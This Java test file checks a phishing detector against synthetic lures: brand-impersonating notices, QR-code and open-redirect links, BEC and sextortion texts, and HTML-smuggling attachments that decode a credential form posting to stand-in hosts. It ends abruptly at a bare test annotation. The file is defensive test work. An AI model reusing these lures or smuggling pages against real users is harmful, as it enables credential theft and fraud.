package jp.renkei.engine.mail;

import static jp.renkei.engine.mail.MailJapaneseLureTest.lure;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Phishing of the kinds current in 2025–2026 that the project's corpora hold little of (issue 19,
 * mail15), English first, then Japanese: e-signature and file-share notices from unrelated senders,
 * voicemail and fax notices carrying an HTML page, HR, payroll and benefits lures, MFA and new
 * sign-in lures, wire-change requests without a link, QR codes in images and PDFs, quota and
 * password expiry, parcel and customs fees, tax refunds, wallet "verification", recruiter lures,
 * callback invoices, sextortion with a bitcoin address, links through big sites' open redirects and
 * on free hosting, HTML smuggling. Every message is this test's own writing after public
 * descriptions of the campaigns (their themes, not their text); every name and address is made up.
 * Legitimate mail of the same kinds is in {@link MailCurrentLegitimateTest}.
 */
class MailCurrentLureTest {

  static final String ORG = "example-corp.co.jp";

  static byte[] qrPng(String url) {
    try {
      return MailImagesTest.qrPng(url, 300);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] qrPdf(String url) {
    try {
      return MailImagesTest.qrPdf(url, false);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  /** An HTML page that builds its sign-in form from a base64 string in the browser. */
  static byte[] smuggled(String action) {
    String page =
        "<form method=post action=\""
            + action
            + "\"><input type=email name=u><input type=password name=p>"
            + "<button>Sign in</button></form>";
    return utf8(
        "<html><head><title>Document</title></head><body><script>var d=atob('"
            + Base64.getEncoder().encodeToString(utf8(page))
            + "');document.write(d);</script></body></html>");
  }

  static List<MailJapaneseLureTest.Case> lures() {
    List<MailJapaneseLureTest.Case> c = new ArrayList<>();
    // ---- e-signature and file shares from senders unrelated to the platform ------------------
    c.add(
        lure(
            "e-signature, shares",
            "DocuSign notice from a construction company's domain, link on pages.dev",
            JapaneseMail.utf8()
                .auth("hollandtilecorp.com", "pass")
                .from("DocuSign via Signing Service", "dse@mail.hollandtilecorp.com")
                .to("k.sato@" + ORG)
                .subject("Complete with DocuSign: Q4_Settlement_Agreement.pdf")
                .html(
                    "<div style=\"background:#1e4ca1;color:#fff\">DocuSign</div><p>Accounts"
                        + " Department sent you a document to review and sign.</p><p><a"
                        + " href=\"https://docsign-envelope-7f3a.pages.dev/?id=4821\">REVIEW"
                        + " DOCUMENT</a></p><p>Please do not share this email. Powered by"
                        + " DocuSign.</p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "e-signature, shares",
            "Adobe Acrobat Sign notice, the page on an IPFS gateway with the reader's address",
            JapaneseMail.utf8()
                .auth("cedarbuildersgroup.net", "pass")
                .from("Adobe Acrobat Sign", "noreply@cedarbuildersgroup.net")
                .to("m.tanaka@" + ORG)
                .subject("Signature requested on \"Revised Payment Schedule 2026\"")
                .html(
                    "<p>Adobe Acrobat Sign</p><p>Please review and complete the agreement"
                        + " \"Revised Payment Schedule 2026\".</p><p><a"
                        + " href=\"https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/index.html#m.tanaka@"
                        + ORG
                        + "\">Review and sign</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "e-signature, shares",
            "SharePoint share of a remittance file from a stranger, page on r2.dev",
            JapaneseMail.utf8()
                .auth("lakeside-plumbing.com", "pass")
                .from("Maria Chen", "mchen@lakeside-plumbing.com")
                .to("keiri@" + ORG)
                .subject("Maria Chen shared \"Remittance_Advice_Dec.pdf\" with you")
                .html(
                    "<p>Maria Chen shared a file with you</p><p>Here's the document that Maria"
                        + " Chen shared with you.</p><p><a"
                        + " href=\"https://pub-3f9a8c2e1b7d4e6f9a1c.r2.dev/sp/view.html\">Open</a></p>"
                        + "<p>This link will work for anyone. Microsoft SharePoint</p>"),
            RedFlag.SUSPICIOUS_LINK,
            RedFlag.TARGETED_THEME));
    c.add(
        lure(
            "e-signature, shares",
            "OneDrive share through Google's open redirect to a web.app page",
            JapaneseMail.utf8()
                .auth("ketofitnessdaily.com", "pass")
                .from("OneDrive", "noreply@ketofitnessdaily.com")
                .to("h.ito@" + ORG)
                .subject("You have received 2 new files via OneDrive")
                .html(
                    "<p>2 files have been shared with you: Contract_Final.docx,"
                        + " Invoice_3391.xlsx</p><p><a"
                        + " href=\"https://www.google.com/url?q=https://onedrive-files-share.web.app/d/?e%3Dh.ito&amp;sa=D&amp;usg=AOvVaw1x\">View"
                        + " files</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "e-signature, shares",
            "A shared document through Bing's click redirect (destination in base64)",
            JapaneseMail.utf8()
                .auth("northfieldaccounting.co", "pass")
                .from("Northfield Accounting", "office@northfieldaccounting.co")
                .to("soumu@" + ORG)
                .subject("Northfield Accounting has shared a secure document with you")
                .html(
                    "<p>A secure document has been shared with you for review.</p><p><a"
                        + " href=\"https://www.bing.com/ck/a?!&amp;&amp;p=4f1c2d&amp;u=a1"
                        + Base64.getUrlEncoder()
                            .withoutPadding()
                            .encodeToString(utf8("https://secure-doc-portal.duckdns.org/view"))
                        + "&amp;ntb=1\">Access document</a></p>"),
            RedFlag.SUSPICIOUS_LINK,
            RedFlag.TARGETED_THEME));
    c.add(
        lure(
            "e-signature, shares",
            "LinkedIn slink to hide a sign-in page, as a proposal to review",
            JapaneseMail.utf8()
                .auth("brightpathconsulting.org", "pass")
                .from("Jessica Moore", "jmoore@brightpathconsulting.org")
                .to("k.sato@" + ORG)
                .subject("Proposal document for your review")
                .html(
                    "<p>Hi,</p><p>Please find the proposal document for your review below. You"
                        + " will need to sign in with your email to access it.</p><p><a"
                        + " href=\"https://www.linkedin.com/slink?code=eYq7KpN2\">View"
                        + " Proposal</a></p><p>Regards,<br>Jessica</p>"),
            RedFlag.SUSPICIOUS_LINK));
    // ---- voicemail and fax with an HTML attachment -------------------------------------------
    c.add(
        lure(
            "voicemail, fax",
            "Voicemail notice with an HTML player that builds a sign-in form (smuggling)",
            JapaneseMail.utf8()
                .auth("firstbaptistwaco.org", "pass")
                .from("Voice Mail Service", "voicemail@firstbaptistwaco.org")
                .to("y.kato@" + ORG)
                .subject("New voicemail from +1 (312) 555-0147 - Duration 0:42")
                .text(
                    "You received a new voice message.\n\nCaller: +1 (312) 555-0147\nDuration:"
                        + " 0:42\n\nPlay the attached message.")
                .attach(
                    "VM_Play_0042.html", "text/html", smuggled("https://vm-auth.workers.dev/p")),
            RedFlag.HTML_ATTACHMENT,
            RedFlag.HTML_FORM));
    c.add(
        lure(
            "voicemail, fax",
            "eFax notice with an .htm attachment that redirects",
            JapaneseMail.utf8()
                .from("eFax", "fax-delivery@mail-efax-notify.com")
                .to("somu@" + ORG)
                .subject("You have a new fax (3 pages) from 03-5555-0142")
                .text("A fax was received. 3 pages. Open the attached document to view it.")
                .attach(
                    "Fax_Document_3pg.htm",
                    "text/html",
                    utf8(
                        "<html><head><meta http-equiv=\"refresh\""
                            + " content=\"0;url=https://efax-view.firebaseapp.com/doc\"></head>"
                            + "</html>")),
            RedFlag.HTML_ATTACHMENT,
            RedFlag.HTML_FORM));
    // ---- HR, payroll, benefits, policy ---------------------------------------------------------
    c.add(
        lure(
            "HR, payroll",
            "Policy update from 'HR Department' on another domain, sign-in on firebaseapp",
            JapaneseMail.utf8()
                .auth("staff-policyportal.com", "pass")
                .from("HR Department", "hr-notice@staff-policyportal.com")
                .to("a.suzuki@" + ORG)
                .subject("Action Required: Acknowledge the updated 2026 Employee Handbook")
                .html(
                    "<p>Dear Employee,</p><p>Human Resources has updated the Employee Handbook and"
                        + " the Remote Work Policy. All staff must review and acknowledge the"
                        + " changes by Friday.</p><p><a"
                        + " href=\"https://examplecorp-hr-portal.firebaseapp.com/login\">Review"
                        + " and acknowledge</a></p><p>HR Department</p>"),
            RedFlag.SUSPICIOUS_LINK,
            RedFlag.TARGETED_THEME));
    c.add(
        lure(
            "HR, payroll",
            "Salary adjustment letter, sign in on a duckdns host",
            JapaneseMail.utf8()
                .from("Payroll Office", "payroll@salary-review-center.net")
                .to("t.kimura@" + ORG)
                .subject("Your 2026 salary adjustment letter is ready")
                .html(
                    "<p>Hello,</p><p>Your salary adjustment for the coming year has been approved."
                        + " Sign in with your company email to view your letter.</p><p><a"
                        + " href=\"https://payroll-letters.duckdns.org/signin\">View"
                        + " letter</a></p>"),
            RedFlag.SUSPICIOUS_LINK,
            RedFlag.TARGETED_THEME));
    c.add(
        lure(
            "HR, payroll",
            "Benefits enrolment closing, a Google Sites page",
            JapaneseMail.utf8()
                .auth("benefitsadmin-notice.com", "pass")
                .from("Benefits Administration", "enroll@benefitsadmin-notice.com")
                .to("r.ono@" + ORG)
                .subject("Final reminder: open enrollment for 2026 benefits closes today")
                .html(
                    "<p>Your 2026 benefits selections are incomplete. If you do not confirm them"
                        + " before midnight, your coverage will be lost.</p><p><a"
                        + " href=\"https://sites.google.com/view/benefits-enroll-2026/home\">Confirm"
                        + " my benefits</a></p>"),
            RedFlag.SUSPICIOUS_LINK,
            RedFlag.URGENCY));
    c.add(
        lure(
            "HR, payroll",
            "Direct-deposit change request to payroll from a free-mail 'employee'",
            JapaneseMail.utf8()
                .from("Takeshi Yamamoto", "takeshi.yamamoto.work@gmail.com")
                .to("payroll@" + ORG)
                .subject("Direct deposit update")
                .text(
                    "Hello,\n\nI recently changed banks and would like to update my direct deposit"
                        + " before the next payroll. Please let me know what information you need"
                        + " from me, or send me the form.\n\nThank you,\nTakeshi"),
            RedFlag.PAYMENT_LURE,
            RedFlag.FREEMAIL_LURE));
    // ---- MFA and sign-in -----------------------------------------------------------------------
    c.add(
        lure(
            "MFA, sign-in",
            "Microsoft 365 MFA re-enrolment, the brand's domain in front of another",
            JapaneseMail.utf8()
                .auth("mfa-notify.info", "pass")
                .from("Microsoft Security", "security@mfa-notify.info")
                .to("k.sato@" + ORG)
                .subject("Microsoft 365: multi-factor authentication must be set up again")
                .html(
                    "<p>Your organisation requires you to re-register your authentication methods"
                        + " within 48 hours, or you will lose access to Outlook and Teams.</p><p><a"
                        + " href=\"https://login.microsoftonline.com.mfa-renew.click/common\">Set"
                        + " up now</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.LOOKALIKE_DOMAIN));
    c.add(
        lure(
            "MFA, sign-in",
            "Google 'new sign-in' alert from another domain, page on workers.dev",
            JapaneseMail.utf8()
                .from("Google", "no-reply@accounts-alerts-center.com")
                .to("h.ito@" + ORG)
                .subject("Security alert: new sign-in on Windows")
                .html(
                    "<p>Google</p><p>A new sign-in on Windows</p><p>We noticed a new sign-in to"
                        + " your Google Account. If this wasn't you, secure your account.</p><p><a"
                        + " href=\"https://g-account-recovery.workers.dev/challenge\">Check"
                        + " activity</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "MFA, sign-in",
            "QR code image: set up the authenticator again, no link in the text",
            JapaneseMail.utf8()
                .auth("tri-county-dental.com", "pass")
                .from("IT Service Desk", "itdesk@tri-county-dental.com")
                .to("a.suzuki@" + ORG)
                .subject("Authenticator re-registration required for your account")
                .text(
                    "Your two-factor authentication expires today. Scan the QR code below with"
                        + " your phone camera to keep access to your mailbox.")
                .attach("qr-mfa.png", "image/png", qrPng("https://m365-reauth.pages.dev/?u=4491")),
            RedFlag.QR_CODE_LINK,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "MFA, sign-in",
            "QR code in a PDF: a document to sign, the page through ngrok",
            JapaneseMail.utf8()
                .auth("harborlogistics.biz", "pass")
                .from("Document Center", "docs@harborlogistics.biz")
                .to("keiri@" + ORG)
                .subject("Secure document waiting: Payment_Confirmation.pdf")
                .text("Please scan the QR code in the attached PDF to read your document.")
                .attach(
                    "Payment_Confirmation.pdf",
                    "application/pdf",
                    qrPdf("https://7c1e-203-0-113-9.ngrok-free.app/doc")),
            RedFlag.QR_CODE_LINK,
            RedFlag.SUSPICIOUS_LINK));
    // ---- quota and password expiry ----------------------------------------------------------
    c.add(
        lure(
            "quota, password",
            "OneDrive storage full, page on blogspot",
            JapaneseMail.utf8()
                .from("Microsoft 365", "storage@cloudquota-service.com")
                .to("y.kato@" + ORG)
                .subject("Your OneDrive storage is full")
                .html(
                    "<p>Your storage is full. Files will no longer sync and new email will not"
                        + " be delivered.</p><p><a"
                        + " href=\"https://ms365-storage-upgrade.blogspot.com/\">Get more"
                        + " storage</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "quota, password",
            "Google Workspace password expires today, a Google Forms link",
            JapaneseMail.utf8()
                .from("Workspace Admin", "admin@workspace-helpcenter.org")
                .to("t.kimura@" + ORG)
                .subject("Your password expires today")
                .html(
                    "<p>The password for t.kimura@"
                        + ORG
                        + " expires today. To keep your same password, confirm below.</p><p><a"
                        + " href=\"https://forms.gle/Xa81kPq2\">Keep current password</a></p>"),
            RedFlag.CREDENTIAL_REQUEST,
            RedFlag.SUSPICIOUS_LINK));
    // ---- parcels, customs, tax, wallets --------------------------------------------------------
    c.add(
        lure(
            "parcel, tax, wallet",
            "USPS redelivery fee from a random domain",
            JapaneseMail.utf8()
                .from("USPS", "notice@trk-usps-redeliver.top")
                .to("r.ono@" + ORG)
                .subject("Your package is on hold: redelivery fee of $1.99")
                .html(
                    "<p>Your package could not be delivered due to an incomplete address. Pay the"
                        + " $1.99 redelivery fee within 48 hours or it will be returned.</p><p><a"
                        + " href=\"https://usps-redelivery-center.top/pay\">Schedule"
                        + " redelivery</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.PAYMENT_LURE));
    c.add(
        lure(
            "parcel, tax, wallet",
            "DHL customs duty on a web.app page",
            JapaneseMail.utf8()
                .auth("tokomebel-jaya.co.id", "pass")
                .from("DHL Express", "dhl@tokomebel-jaya.co.id")
                .to("k.sato@" + ORG)
                .subject("DHL Express: customs duty payment required for shipment 4829103374")
                .html(
                    "<p>Your shipment is held at customs. Import duty of JPY 460 must be paid"
                        + " before delivery.</p><p><a"
                        + " href=\"https://dhl-customs-pay.web.app/?awb=4829103374\">Pay"
                        + " duty</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "parcel, tax, wallet",
            "Tax refund in the IRS's name",
            JapaneseMail.utf8()
                .from("IRS Refunds", "refunds@irs-taxrefund-claim.com")
                .to("m.tanaka@" + ORG)
                .subject("You are eligible for a tax refund of $842.16")
                .html(
                    "<p>After the annual calculation of your fiscal activity we have determined"
                        + " that you are eligible to receive a tax refund of $842.16. Submit the"
                        + " refund request and allow 3-5 days to process.</p><p><a"
                        + " href=\"https://irs-taxrefund-claim.com/form\">Claim refund</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.PAYMENT_LURE));
    c.add(
        lure(
            "parcel, tax, wallet",
            "MetaMask wallet verification on pages.dev",
            JapaneseMail.utf8()
                .auth("greenvalleyfarms.net", "pass")
                .from("MetaMask", "support@greenvalleyfarms.net")
                .to("h.ito@" + ORG)
                .subject("Wallet verification required")
                .html(
                    "<p>Dear MetaMask user,</p><p>Due to new regulations, all wallets must be"
                        + " verified by December 15. Unverified wallets will be suspended.</p><p><a"
                        + " href=\"https://metamask-verify-wallet.pages.dev/\">Verify"
                        + " wallet</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.CREDENTIAL_REQUEST));
    // ---- money without a link: wire change, callback, recruiters, sextortion -------------------
    c.add(
        lure(
            "BEC, callback, extortion",
            "Vendor's bank change from a look-alike domain, replies to free mail, no link",
            JapaneseMail.utf8()
                .auth("acme-supp1y.com", "pass")
                .from("Linda Park", "linda.park@acme-supp1y.com")
                .header("Reply-To: linda.park.acme@outlook.com")
                .to("keiri@" + ORG)
                .subject("Updated remittance details - invoice 88213")
                .text(
                    "Hello,\n\nPlease be informed that our company has changed banks due to an"
                        + " ongoing audit. All outstanding invoices, including 88213, should be"
                        + " paid to our new account. Kindly update your vendor records and confirm"
                        + " so I can send the new bank details.\n\nBest regards,\nLinda Park\nAccounts"
                        + " Receivable"),
            RedFlag.PAYMENT_LURE,
            RedFlag.REPLY_TO_OTHER_DOMAIN));
    c.add(
        lure(
            "BEC, callback, extortion",
            "CEO asks from free mail for an urgent confidential wire",
            JapaneseMail.utf8()
                .from("Hiroshi Nakamura", "hiroshi.nakamura.ceo@outlook.com")
                .to("keiri@" + ORG)
                .subject("Quick request")
                .text(
                    "Are you at your desk? I need you to process a wire transfer to a new"
                        + " supplier today. Keep this confidential until the deal is announced. I"
                        + " am in meetings and can only reply by email.\n\nHiroshi"),
            RedFlag.PAYMENT_LURE,
            RedFlag.FREEMAIL_LURE));
    c.add(
        lure(
            "BEC, callback, extortion",
            "Remittance advice with an HTML attachment",
            JapaneseMail.utf8()
                .auth("pinecrest-holdings.com", "pass")
                .from("Accounts Payable", "ap@pinecrest-holdings.com")
                .to("keiri@" + ORG)
                .subject("Remittance Advice - Payment Sent 12/01/2026")
                .text("Please find attached the remittance advice for the payment sent today.")
                .attach(
                    "Remittance_Advice_8832.html",
                    "text/html",
                    smuggled("https://ap-remit.r2.dev/submit")),
            RedFlag.HTML_ATTACHMENT,
            RedFlag.PAYMENT_LURE));
    c.add(
        lure(
            "BEC, callback, extortion",
            "Callback invoice: a security subscription renewed, call to cancel",
            JapaneseMail.utf8()
                .from("Billing Department", "billing.dept4471@gmail.com")
                .to("r.ono@" + ORG)
                .subject("Your subscription has been renewed - Invoice #GS-884172")
                .text(
                    "Thank you for renewing your Geek Squad Total Protection plan. Amount charged:"
                        + " $399.99. The charge will appear on your statement within 24 hours.\n\nIf"
                        + " you did not authorize this purchase, call our billing team at"
                        + " +1 (808) 555-0199 to cancel and get a refund."),
            RedFlag.CALLBACK_LURE));
    c.add(
        lure(
            "BEC, callback, extortion",
            "Sextortion with a bitcoin address",
            JapaneseMail.utf8()
                .from(null, "t.kimura@" + ORG)
                .to("t.kimura@" + ORG)
                .subject("I know your password")
                .text(
                    "Hello,\n\nI have been watching you for a while. I installed malware on your"
                        + " device and recorded you through your camera while you were visiting"
                        + " adult websites. I have a copy of all your contacts.\n\nSend $1450 in"
                        + " Bitcoin to this address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou"
                        + " have 48 hours. If I do not receive the payment, the video goes to"
                        + " everyone you know."),
            RedFlag.EXTORTION,
            RedFlag.PAYMENT_LURE));
    c.add(
        lure(
            "BEC, callback, extortion",
            "Recruiter lure from free mail: a remote job paying by the day, chat on Telegram",
            JapaneseMail.utf8()
                .from("Emily Carter | Talent Acquisition", "emily.carter.hr.recruit@gmail.com")
                .to("y.kato@" + ORG)
                .subject("Remote part-time position - earn $300 to $500 per day")
                .text(
                    "Hi,\n\nI am a recruiter and found your profile online. We are hiring remote"
                        + " part-time staff, 60-90 minutes a day, with a daily salary of $300 to"
                        + " $500. No experience is required. Contact me on Telegram or WhatsApp to"
                        + " start today.\n\nEmily"),
            RedFlag.FRAUD_OFFER,
            RedFlag.FREEMAIL_LURE));
    c.add(
        lure(
            "BEC, callback, extortion",
            "Recruiter with a 'job description' page that asks to sign in",
            JapaneseMail.utf8()
                .auth("talentbridge-partners.com", "pass")
                .from("TalentBridge Recruiting", "careers@talentbridge-partners.com")
                .to("k.sato@" + ORG)
                .subject("Job opportunity: Senior Security Engineer (remote)")
                .html(
                    "<p>Hello,</p><p>We came across your profile and would like to discuss a"
                        + " senior role with our client. Please review the job description and"
                        + " salary details; you will be asked to sign in with your email to view"
                        + " the document.</p><p><a"
                        + " href=\"https://jd-talentbridge.netlify.app/view\">View job"
                        + " description</a></p>"),
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "e-signature, shares",
            "A 'secure message' whose button is a data: URL",
            JapaneseMail.utf8()
                .from("Secure Message", "securemail@encrypted-msg-portal.com")
                .to("soumu@" + ORG)
                .subject("You have received an encrypted message")
                .html(
                    "<p>You have received a secure message. Click below to read it.</p><p><a"
                        + " href=\"data:text/html;base64,"
                        + Base64.getEncoder()
                            .encodeToString(
                                utf8(
                                    "<form action=https://x.example/p><input type=password></form>"))
                        + "\">Read message</a></p>"),
            RedFlag.SUSPICIOUS_LINK));
    // ---- Japanese: the kinds of 2025-26 ------------------------------------------------------
    c.add(
        lure(
            "Japanese",
            "証券会社: 取引制限と再認証 (2025 年の証券口座乗っ取り)",
            JapaneseMail.utf8()
                .from("SBI証券", "info@sbisec-account-jp.com")
                .to("t.kimura@" + ORG)
                .subject("【重要】SBI証券 お取引制限のお知らせ")
                .text(
                    "SBI証券をご利用のお客様\n\n第三者による不正アクセスの可能性を検知したため、"
                        + "お客様の口座のお取引を一時的に制限させていただきます。\n"
                        + "下記より本人確認を行い、制限を解除してください。\n\n"
                        + "https://sbisec-login-verify.top/login\n\n株式会社SBI証券"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.CREDENTIAL_REQUEST));
    c.add(
        lure(
            "Japanese",
            "Microsoft 365 多要素認証の再登録、QR コード画像",
            JapaneseMail.iso2022jp()
                .from("情報システム部", "it-support@m365-admin-jp.com")
                .to("a.suzuki@" + ORG)
                .subject("【要対応】多要素認証の再登録のお願い")
                .text(
                    "Microsoft 365 の多要素認証の有効期限が本日で切れます。\n"
                        + "添付の QR コードをスマートフォンで読み取り、再登録を完了してください。\n"
                        + "本日中に完了しない場合、メールが利用できなくなります。")
                .attach("qr.png", "image/png", qrPng("https://m365-mfa-jp.pages.dev/login")),
            RedFlag.QR_CODE_LINK,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "Japanese",
            "年末調整の書類提出 (人事部を名乗る、Google サイト)",
            JapaneseMail.utf8()
                .from("人事部", "jinji@nenmatsu-tetsuzuki.com")
                .to("y.kato@" + ORG)
                .subject("【人事部】年末調整書類のご提出について (本日締切)")
                .text(
                    "社員各位\n\n年末調整の申告書の提出期限は本日です。\n"
                        + "下記ページに社内アカウントでログインし、申告内容をご確認ください。\n"
                        + "https://sites.google.com/view/nenmatsu-2026/login\n\n人事部"),
            RedFlag.SUSPICIOUS_LINK,
            RedFlag.CREDENTIAL_REQUEST));
    c.add(
        lure(
            "Japanese",
            "電子署名のお願い (DocuSign を名乗る、IPFS)",
            JapaneseMail.utf8()
                .auth("kanto-kenzai.net", "pass")
                .from("DocuSign 電子署名", "sign@kanto-kenzai.net")
                .to("keiri@" + ORG)
                .subject("【電子署名】業務委託契約書への署名のお願い")
                .html(
                    "<p>業務委託契約書の署名依頼が届いています。</p><p>内容をご確認のうえ、署名をお願いいたします。</p>"
                        + "<p><a href=\"https://dweb.link/ipfs/bafybeihkoviema7g3gxyt6la7vd5ho32ictqbilu3wnlo3rs7ewhnp7lly\">文書を確認する</a></p>"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.SUSPICIOUS_LINK));
    c.add(
        lure(
            "Japanese",
            "留守番電話の通知、HTML 添付",
            JapaneseMail.utf8()
                .from("留守番電話サービス", "voice@rusuden-center.net")
                .to("somu@" + ORG)
                .subject("新しい留守番電話メッセージ (0:38)")
                .text("新しい留守番電話メッセージがあります。添付ファイルを開いて再生してください。")
                .attach("音声メッセージ.html", "text/html", smuggled("https://rusuden.workers.dev/a")),
            RedFlag.HTML_ATTACHMENT,
            RedFlag.HTML_FORM));
    c.add(
        lure(
            "Japanese",
            "国税庁を名乗る還付金のお知らせ (pages.dev)",
            JapaneseMail.utf8()
                .from("国税庁", "info@nta-kanpu-jp.com")
                .to("m.tanaka@" + ORG)
                .subject("【国税庁】所得税の還付金受取手続きのお知らせ")
                .text(
                    "所得税の還付金 38,500円 が未受取となっております。\n"
                        + "受取期限までに下記より口座情報を入力してください。\n"
                        + "https://nta-kanpu.pages.dev/\n\n国税庁"),
            RedFlag.BRAND_IMPERSONATION,
            RedFlag.PAYMENT_LURE));
    return c;
  }

  @TestFactory
  Stream<DynamicTest> everyCurrentLureIsSuspiciousOrMaliciousWithTheSignsAnAnalystExpects() {
    return MailJapaneseLureTest.flagged(lures());
  }

  @Test
  void anOpenRedirectsDestinationIsReadAndOnlyWhereTheSiteRedirects() {
    assertThat(
            MailRedirects.redirectTarget(
                "https://www.google.com/url?q=https://x.web.app/a%3Fb%3D1&amp;sa=D",
                "www.google.com"))
        .isEqualTo("https://x.web.app/a?b=1");
    assertThat(
            MailRedirects.redirectTarget(
                "https://www.google.co.jp/url?url=https://a.example/", "www.google.co.jp"))
        .isEqualTo("https://a.example/");
    String b64 =
        Base64.getUrlEncoder().withoutPadding().encodeToString(utf8("https://b.duckdns.org/x"));
    assertThat(
            MailRedirects.redirectTarget(
                "https://www.bing.com/ck/a?!&&p=1&u=a1" + b64, "www.bing.com"))
        .isEqualTo("https://b.duckdns.org/x");
    assertThat(
            MailRedirects.redirectTarget(
                "https://www.youtube.com/redirect?q=http://c.example/", "www.youtube.com"))
        .isEqualTo("http://c.example/");
    // a search page, a destination that is no web address, a broken base64: none
    assertThat(
            MailRedirects.redirectTarget(
                "https://www.google.com/search?q=https://x.example/", "www.google.com"))
        .isNull();
    assertThat(
            MailRedirects.redirectTarget(
                "https://www.google.com/url?q=javascript:alert(1)", "www.google.com"))
        .isNull();
    assertThat(MailRedirects.redirectTarget("https://www.bing.com/ck/a?u=a1%%%", "www.bing.com"))
        .isNull();
    assertThat(
            MailRedirects.opaqueRedirect(
                "https://www.linkedin.com/slink?code=abc", "www.linkedin.com"))
        .isTrue();
    assertThat(
            MailRedirects.opaqueRedirect("https://www.linkedin.com/in/someone", "www.linkedin.com"))
        .isFalse();
    // a colleague's mail that links a newspaper through Google is no sign
    MailReport r =
        JapaneseMail.utf8()
            .auth(ORG, "pass")
            .from("Kenji Mori", "k.mori@" + ORG)
            .to("k.sato@" + ORG)
            .subject("Article on the drill")
            .html(
                "<p>Worth reading before Friday:</p><p><a"
                    + " href=\"https://www.google.com/url?q=https://www.nikkei.com/article/DGX1&amp;sa=D\">Nikkei</a></p>")
            .analyze();
    assertThat(r.verdict()).isEqualTo(MailReport.Verdict.CLEAN);
  }

  @Test
  void theOrganisationsOwnNoticesAreCleanOnlyFromItsOwnAuthenticatedDomainLinkingOnlyIt() {
    String text = "加藤 様\n\nメールボックスの使用量が容量の90%を超えました。\n不要なメールを削除してください。\n";
    // a partner's or a compromised domain that passes DMARC and links itself: still a request
    MailReport partner =
        JapaneseMail.iso2022jp()
            .auth("partner-trading.co.jp", "pass")
            .from("情報システム部", "postmaster@partner-trading.co.jp")
            .to("y.kato@" + ORG)
            .subject("メールボックスの容量についてのお知らせ")
            .text(text + "https://partner-trading.co.jp/webmail/login\n")
            .analyze();
    assertThat(MailSignsTest.flags(partner)).contains(RedFlag.CREDENTIAL_REQUEST);
    // the own domain, spoofed
    MailReport spoofed =
        JapaneseMail.iso2022jp()
            .auth(ORG, "fail")
            .from("情報システム部", "postmaster@" + ORG)
            .to("y.kato@" + ORG)
            .subject("メールボックスの容量についてのお知らせ")
            .text(text + "https://intranet." + ORG + "/it/mailbox\n")
            .analyze();
    assertThat(MailSignsTest.flags(spoofed))
        .contains(RedFlag.CREDENTIAL_REQUEST, RedFlag.AUTHENTICATION_FAILED);
    // the own domain, authenticated, but the link goes elsewhere
    MailReport elsewhere =
        JapaneseMail.iso2022jp()
            .auth(ORG, "pass")
            .from("情報システム部", "postmaster@" + ORG)
            .to("y.kato@" + ORG)
            .subject("メールボックスの容量についてのお知らせ")
            .text(text + "https://mailbox-quota.pages.dev/login\n")
            .analyze();
    assertThat(MailSignsTest.flags(elsewhere))
        .contains(RedFlag.CREDENTIAL_REQUEST, RedFlag.SUSPICIOUS_LINK);
  }

  @Test
  void aSignaturePlatformsReplyToFreeMailAndAnExchangesAmountFromAnotherDomainStillCount() {
    MailReport docusign =
        JapaneseMail.utf8()
            .auth("docusign.net", "pass")
            .from("Accounts via DocuSign", "dse_na3@docusign.net")
            .header("Reply-To: accounts.payable.dept@gmail.com")
            .to("keiri@" + ORG)
            .subject("Please DocuSign: Wire_Instructions_Update.pdf")
            .html(
                "<p><a href=\"https://na3.docusign.net/Signing/EmailStart.aspx?a=1\">REVIEW</a></p>")
            .analyze();
    assertThat(MailSignsTest.flags(docusign)).contains(RedFlag.REPLY_TO_OTHER_DOMAIN);
    MailReport coin =
        JapaneseMail.utf8()
            .auth("coinbase-notices.com", "pass")
            .from("Coinbase", "no-reply@coinbase-notices.com")
            .to("m.tanaka@" + ORG)
            .subject("You received 0.25 BTC")
            .html(
                "<p>You received 0.25 BTC. Withdraw it to your wallet today.</p><p><a"
                    + " href=\"https://coinbase-notices.com/claim\">Withdraw</a></p>")
            .analyze();
    assertThat(MailSignsTest.flags(coin))
        .contains(RedFlag.BRAND_IMPERSONATION, RedFlag.FRAUD_OFFER);
    // a compromised mailbox that passes DMARC and links nothing is no exchange's notice
    MailReport funded =
        JapaneseMail.utf8()
            .auth("example-college.edu", "pass")
            .from("Victoria Hale", "vhale@example-college.edu")
            .to("m.tanaka@" + ORG)
            .subject("Re: As requested")
            .text(
                "Hello,\n\nYour bitcoin wallet has been funded with 12.40 BTC. Log in with the"
                    + " details below.\n\nCheers,\nVictoria")
            .analyze();
    assertThat(MailSignsTest.flags(funded)).contains(RedFlag.FRAUD_OFFER);
  }

  @Test
